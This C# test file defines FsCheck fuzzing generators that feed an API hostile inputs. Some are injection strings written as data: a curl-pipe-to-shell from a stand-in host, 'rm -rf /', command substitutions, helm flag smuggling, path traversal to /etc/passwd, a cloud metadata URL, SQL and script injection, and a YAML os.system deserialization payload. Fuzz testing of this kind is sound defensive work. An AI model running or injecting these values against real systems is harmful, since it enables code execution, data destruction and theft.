using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;

namespace Smo.Functions.Tests.Fuzzing;

/// <summary>The hostile values every generator draws on: numbers, strings and names an API meets from careless or malicious clients.</summary>
public static class FuzzValues
{
    /// <summary>What a shell, helm's <c>--set</c>, a template engine, SQL or a URL would read as more than a value.</summary>
    public static readonly string[] Injections =
    [
        "--set image.repository=evil", "--post-renderer=/bin/sh", "-leading-dash", "--kubeconfig=/etc/passwd", "$(reboot)", "`id`",
        "; rm -rf /", "a b c", " leading-space", "trailing-space ", "x && curl evil.example | sh", "{{ .Release.Name }}", "${HOME}",
        "' OR '1'='1", "\"; DROP TABLE graphs; --", "%n%s%x", "a\r\nX-Injected: 1", "<script>alert(1)</script>", "a,b=c",
        "oci://127.0.0.1:5000/../../etc/passwd", "../../../../etc/passwd", "..\\..\\windows\\system32", "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/", "oci://evil.example/x --set a=b", "\\\\server\\share", "a=b,c=d",
    ];

    public static readonly string[] Unicode =
    [
        "é", "日本語のサービス", "🙂🚀", "\u202Egnp.exe", "zero\u200Bwidth", "Ω≈ç√∫", "\uFEFFbom", "a\u0301\u0301\u0301", "\uD800lone",
        "\uFFFF", "ｓｈｏｐ", "İstanbul", "straße", "\u0000nul", "\u001Besc[31m", "مرحبا",
    ];

    /// <summary>Kubernetes names (RFC 1123 labels) are lower-case alphanumerics and '-', 1–63, alphanumeric at both ends: these are not.</summary>
    public static readonly string[] BadNames =
    [
        "", " ", "UPPER", "-dash", "dash-", "under_score", "dot.ted", new string('a', 64), new string('n', 300), "a/b", "..", ".",
        "名前", "a b", "a\nb", "graph:x", "%2e%2e", "a%2Fb", "a\u0000b", "null", "ＡＢＣ",
    ];

    public static readonly string[] PromQlTokens =
    [
        "sum(", ")", "rate(", "flask_http_request_total", "{", "}", "service=\"x\"", "[30s]", "[0s]", "[-1s]", "> 50", "/ 0", "and on()",
        "or", "unless", "offset 1h", "@ 0", "by (service)", "without()", "histogram_quantile(0.9,", "absent(up)", "1e400", "NaN", "Inf",
        "label_replace(", "\"", "'", "\\", "=~\".*\"", "!~\"\"", "vector(1)", "time()", "[5m:1s]", "count_over_time(", "topk(1e9,", ",",
    ];

    public static readonly string[] Durations =
    [
        "5s", "0s", "1ms", "999ms", "-5s", "1e9h", "99999999999999999999s", "P1D", "1h30m", "1d", "1w", "1y", "5", "s", "", " 5s", "5 s",
        "5S", "1.5s", "10000000000y", "0", "NaN", "∞", "5s5s", "1h-1m",
    ];

    /// <summary>Numbers as their text: beyond double, beyond long, negative zero, denormals; also YAML's special floats.</summary>
    public static readonly string[] NumberTokens =
    [
        "0", "-0", "-1", "-0.0", "1e308", "-1e308", "1.7976931348623157e308", "1e400", "-1e400", "9223372036854775807", "9223372036854775808",
        "-9223372036854775809", "18446744073709551616", "2147483648", "-2147483649", "4294967296", "1e-320", "0.000000001", "1.5",
        "3", "100000000000000000000000000000000000000000", "0x1F", "0o17", "1_000", ".nan", ".NaN", ".inf", "-.inf", "+.inf",
    ];

    public static Gen<JsonNode?> Number { get; } =
        Gen.Frequency(
            (3, Gen.Elements(NumberTokens).Select(t => (JsonNode?)JsonValue.Create(new RawToken(t)))),
            (2, Gen.Elements(-1.0, 0.0, 0.5, 1.0, 1.3, 7.0, 50.0, 1e6, 1e15, double.MaxValue, double.Epsilon).Select(d => (JsonNode?)JsonValue.Create(d))),
            (2, Gen.Choose(int.MinValue, int.MaxValue).Select(i => (JsonNode?)JsonValue.Create(i))),
            (1, Gen.Elements("NaN", "Infinity", "-Infinity", "1.3", "1e400", "12abc").Select(s => (JsonNode?)JsonValue.Create(s))));

    /// <summary>Long strings; the ones near a body limit are rare (each is a large allocation to make and to send).</summary>
    public static Gen<string> LongString { get; } =
        Gen.Frequency(
            (12, Gen.Elements(256, 1_000, 10_000).Select(n => new string('x', n))),
            (1, Gen.Constant(string.Concat(Enumerable.Repeat("ab🙂", 20_000)))));

    public static Gen<string> PromQl { get; } =
        Gen.Choose(0, 12).SelectMany(n => Gen.ListOf(Gen.Elements(PromQlTokens), n)).Select(tokens => string.Join(" ", tokens));

    /// <summary>Any hostile string, weighted towards the short ones (a megabyte string is slow to send ten thousand times).</summary>
    public static Gen<string> HostileString { get; } =
        Gen.Frequency(
            (4, Gen.Elements(Injections)),
            (3, Gen.Elements(Unicode)),
            (3, Gen.Elements(BadNames)),
            (2, PromQl),
            (2, Gen.Elements(Durations)),
            (1, LongString),
            (2, ArbMap.Default.GeneratorFor<string>().Select(text => text ?? "")));

    /// <summary>Keys helm's <c>--set</c>, Go templates or a path splitter would misread.</summary>
    public static Gen<string> HostileKey { get; } =
        Gen.Frequency(
            (3, Gen.Elements("--set", "a.b", "a[0]", "$(x)", "{{x}}", "..", "", " ", "key with spaces", "image.repository", "__proto__",
                "<<", "?", "-", "*", "&", "!", "#comment", "a: b", "\\", "\"")),
            (1, Gen.Elements(Unicode)),
            (1, Gen.Elements(256, 5_000).Select(n => new string('k', n))));

    /// <summary>Flow collections nested 100 to 20,000 deep, written as one raw token.</summary>
    public static Gen<JsonNode?> DeepNesting { get; } =
        Gen.Frequency((4, Gen.Constant(100)), (2, Gen.Constant(1_000)), (1, Gen.Constant(20_000))).SelectMany(depth => Gen.Elements("[]", "{}").Select(brackets =>
            (JsonNode?)JsonValue.Create(new RawToken(brackets == "[]"
                ? new string('[', depth) + new string(']', depth)
                : string.Concat(Enumerable.Repeat("{a: ", depth)) + "1" + new string('}', depth)))));

    /// <summary>A scalar of any type, hostile or plain.</summary>
    public static Gen<JsonNode?> Scalar { get; } =
        Gen.Frequency(
            (5, HostileString.Select(s => (JsonNode?)JsonValue.Create(s))),
            (3, Number),
            (1, Gen.Elements(true, false).Select(b => (JsonNode?)JsonValue.Create(b))),
            (1, Gen.Constant<JsonNode?>(null)),
            (1, Gen.Elements("~", "null", "yes", "no", "on", "off", "True", "!!binary aGVsbG8=", "!!python/object/apply:os.system ['id']",
                "!<tag:yaml.org,2002:str> x", "!!int 0x1F", "!!float .nan", "*undefined-alias", "&anchor-only", "{}", "[]", "|", ">-",
                "'unterminated", "\"unterminated", "[1, 2", "{a: ", "? complex key", "@reserved", "`backtick").Select(t => (JsonNode?)JsonValue.Create(new RawToken(t)))));

    /// <summary>A value of any shape: a scalar, or a small list or map of hostile values, or nesting deep enough to hurt a recursive reader.</summary>
    public static Gen<JsonNode?> AnyValue { get; } =
        Gen.Frequency(
            (6, Scalar),
            (2, Gen.Choose(0, 4).SelectMany(n => Gen.ListOf(Scalar, n)).Select(items => (JsonNode?)new JsonArray([.. items]))),
            (2, Gen.Choose(0, 4).SelectMany(n => Gen.ListOf(Gen.Zip(HostileKey, Scalar, (key, value) => (key, value)), n))
                .Select(members => (JsonNode?)ToObject(members))),
            (1, DeepNesting));

    private static JsonObject ToObject(IEnumerable<(string Key, JsonNode? Value)> members)
    {
        var result = new JsonObject();
        foreach (var (key, value) in members)
        {
            result[key] = value;
        }

        return result;
    }
}
